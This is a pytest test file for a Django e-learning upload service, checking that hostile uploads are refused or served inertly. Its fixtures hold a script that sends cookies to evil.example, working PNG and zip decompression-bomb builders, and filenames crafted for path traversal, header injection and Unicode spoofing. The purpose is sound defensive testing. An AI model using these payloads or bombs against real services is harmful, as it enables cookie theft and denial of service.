"""Files made to do harm: each is refused, or harmless where it is opened."""

import io
import struct
import tracemalloc
import zipfile
import zlib

import pytest
from django.core.files.storage import default_storage
from django.test import RequestFactory
from PIL import Image

from elearning.storage.delivery import deliver
from elearning.uploads import services
from elearning.uploads.errors import Refused
from elearning.uploads.models import Upload

from .conftest import PART, sha256

SCRIPT = b"<script>document.location='https://evil.example/'+document.cookie</script>"
HTML = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"


@pytest.fixture(autouse=True)
def _large_parts(settings):
    settings.UPLOAD_PART_BYTES = 1024**2


def sent(browser, name: str, data: bytes) -> Upload:
    upload = browser.begin(name, data)
    for number in range(1, upload.part_count + 1):
        body = data[upload.part_size * (number - 1) : upload.part_size * number]
        assert browser.put(upload, number, body).status_code == 200
    assert browser.complete(upload).status_code == 200
    upload.refresh_from_db()
    return upload


def opened(upload: Upload):
    """The answer to whoever opens it."""
    return deliver(
        RequestFactory().get("/"),
        key=upload.key,
        name=upload.name,
        content_type=upload.content_type,
    )


def is_refused(browser, name: str, data: bytes, reason: str) -> None:
    upload = sent(browser, name, data)
    assert (upload.state, upload.reason) == ("rejected", reason)
    assert upload.key.startswith("quarantine/")
    assert not default_storage.exists(f"verified/{upload.pk}")


# --- Pages with scripts ---------------------------------------------------------------------


@pytest.mark.parametrize("name", ["a.html", "a.htm", "a.svg", "a.xhtml", "a.xml", "a.js", "a.mht"])
def test_pages_and_scripts_are_not_even_begun(cast, name):
    for category in ("video", "document"):
        with pytest.raises(Refused):
            services.begin(owner=cast.tanaka, category=category, name=name, size=100)


@pytest.mark.parametrize("name", ["a.pdf", "a.png", "a.mp4", "a.mp3", "a.docx"])
@pytest.mark.parametrize(
    "data",
    [HTML, b"\n \xef\xbb\xbf" + HTML, SVG, b'<?xml version="1.0"?>\n' + SVG, SCRIPT],
    ids=["html", "html-behind-blanks", "svg", "svg-behind-xml", "script"],
)
def test_a_page_with_a_script_is_refused_whatever_it_is_called(browser, name, data):
    upload = sent(browser, name, data)
    assert upload.state == "rejected"
    assert not default_storage.exists(f"verified/{upload.pk}")


# --- Files that are two things at once --------------------------------------------------------


def test_a_page_that_holds_a_pdf_is_a_page(browser, pdf):
    is_refused(browser, "a.pdf", HTML[:40] + b"\n" + pdf(), "mismatch")


@pytest.mark.parametrize("where", ["behind", "before"])
def test_a_pdf_that_holds_a_page_is_shown_as_a_pdf_and_nothing_else(browser, pdf, where):
    # Readers take a PDF with up to a kilobyte of anything before it, and anything behind it.
    data = b"junk " + HTML + b"\n" + pdf() if where == "before" else pdf() + HTML + pdf()
    upload = sent(browser, "a.pdf", data)
    assert upload.state == "verified"
    answer = opened(upload)
    assert answer["Content-Type"] == "application/pdf"
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert answer["Cross-Origin-Resource-Policy"] == "same-origin"


def test_a_picture_that_holds_a_page_is_shown_as_a_picture(browser):
    out = io.BytesIO()
    Image.new("RGB", (20, 20)).save(out, "GIF", comment=HTML)
    upload = sent(browser, "a.gif", out.getvalue() + HTML)
    answer = opened(upload)
    assert answer["Content-Type"] == "image/gif"
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert "script-src" not in answer["Content-Security-Policy"]
    assert "default-src 'none'" in answer["Content-Security-Policy"]


def test_a_word_file_with_a_page_in_it_is_only_ever_saved(browser, office):
    upload = sent(browser, "a.docx", office("word", extra=("index.html",)) + HTML)
    answer = opened(upload)
    assert answer["Content-Disposition"].startswith("attachment")
    assert "sandbox" in answer["Content-Security-Policy"]


# --- Bombs ------------------------------------------------------------------------------------


def png_bomb(side: int) -> bytes:
    """A few hundred bytes that say they are `side` × `side` pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    head = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    body = zlib.compress(bytes(3_000_000), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def test_an_image_bomb_is_refused_before_it_unpacks(browser):
    data = png_bomb(60_000)
    tracemalloc.start()
    is_refused(browser, "a.png", data, "image_too_large")
    _now, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 50_000_000


def office_with(member: str, contents: int, declared: str = "wordprocessingml.document") -> bytes:
    """A Word file one of whose members unpacks to `contents` zeros."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        if member != "[Content_Types].xml":
            kind = f"application/vnd.openxmlformats-officedocument.{declared}.main+xml"
            archive.writestr(
                "[Content_Types].xml",
                f'<Types><Override PartName="/word/document.xml" ContentType="{kind}"/></Types>',
            )
        with archive.open(member, "w", force_zip64=True) as file:
            piece = bytes(1024**2)
            for _ in range(contents // len(piece)):
                file.write(piece)
    return out.getvalue()


@pytest.mark.parametrize("member", ["[Content_Types].xml", "word/document.xml"])
def test_a_zip_bomb_is_refused_and_not_unpacked_into_memory(browser, member):
    data = office_with(member, 1024**3)
    assert len(data) < 2 * 1024**2
    tracemalloc.start()
    is_refused(browser, "a.docx", data, "damaged")
    _now, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 50_000_000


def test_a_zip_bomb_made_of_overlapping_members_is_refused(browser):
    """Its members share their bytes: small as a file, and without end when all are unpacked."""
    data = bytearray(office_with("word/document.xml", 64 * 1024**2))
    end = data.rindex(b"PK\x05\x06")
    start, size = (
        struct.unpack_from("<I", data, end + 16)[0],
        struct.unpack_from("<I", data, end + 12)[0],
    )
    entries = bytes(data[start : start + size])
    repeated = entries + entries[entries.rindex(b"PK\x01\x02") :] * 100
    count = repeated.count(b"PK\x01\x02")
    tail = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(repeated), start, 0)
    is_refused(browser, "a.docx", bytes(data[:start]) + repeated + tail, "damaged")


# --- Sizes and names that lie ------------------------------------------------------------------


def test_an_empty_file_is_not_even_begun(cast):
    with pytest.raises(Refused, match="0 バイト"):
        services.begin(owner=cast.tanaka, category="document", name="a.pdf", size=0)


@pytest.mark.parametrize("size", [-1, -(2**40)])
def test_a_size_below_nothing_is_not_even_begun(cast, size):
    with pytest.raises(Refused):
        services.begin(owner=cast.tanaka, category="document", name="a.pdf", size=size)


def test_a_file_larger_than_announced_is_refused_at_its_last_part(browser, pdf, settings):
    settings.UPLOAD_PART_BYTES = PART
    data = pdf().ljust(3 * PART, b"\n")
    upload = browser.begin("a.pdf", data[: PART + 10])
    browser.put(upload, 1, data[:PART])
    assert browser.put(upload, 2, data[PART : PART + 500]).status_code == 400
    assert browser.put(upload, 3, data[2 * PART :]).status_code == 404
    assert browser.complete(upload).json()["missing"] == [2]


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("あ" * 300 + ".pdf", "あ" * 251 + ".pdf"),
        ("a" * 300 + ".pdf", "a" * 251 + ".pdf"),
        ("../../../etc/passwd.pdf", "passwd.pdf"),
        ("..\\..\\windows\\問題.pdf", "問題.pdf"),
        ("/etc/cron.d/../問題.pdf", "問題.pdf"),
        ("問題\u202efdp.exe.pdf", "問題fdp.exe.pdf"),
        ("\u2066問題\u2069.pdf", "問題.pdf"),
        ('a"\r\nSet-Cookie: x=1.pdf', 'a"Set-Cookie: x=1.pdf'),
        ("%2e%2e%2f問題.pdf", "%2e%2e%2f問題.pdf"),
        ("CON.pdf", "CON.pdf"),
        ("<img src=x onerror=alert(1)>.pdf", "<img src=x onerror=alert(1)>.pdf"),
    ],
)
def test_a_name_made_to_mislead_is_a_plain_name_afterwards(browser, pdf, name, kept):
    upload = sent(browser, name, pdf())
    assert (upload.state, upload.name) == ("verified", kept)
    assert upload.key == f"verified/{upload.pk}"
    answer = opened(upload)
    disposition = answer["Content-Disposition"]
    assert disposition.isascii()
    assert disposition.startswith("inline")
    assert "\n" not in disposition
    assert "Set-Cookie" not in answer


@pytest.mark.parametrize("name", ["", ".", "..", "/", "\u202e", ".pdf", "\x00.pdf", " .pdf"])
def test_a_name_that_is_none_is_not_even_begun(cast, name):
    with pytest.raises(Refused):
        services.begin(owner=cast.tanaka, category="document", name=name, size=100)


@pytest.mark.parametrize("ending", [".exe", ".pdf.exe", ".scr", ".lnk", ".bat", ".pdf.", ""])
def test_endings_of_programs_are_not_even_begun(cast, ending):
    with pytest.raises(Refused):
        services.begin(owner=cast.tanaka, category="document", name="答案" + ending, size=100)


def test_what_is_refused_is_kept_as_it_came_for_the_office_to_look_at(browser):
    upload = sent(browser, "a.pdf", HTML)
    with default_storage.open(upload.key) as file:
        assert sha256(file.read()) == sha256(HTML) == upload.sha256
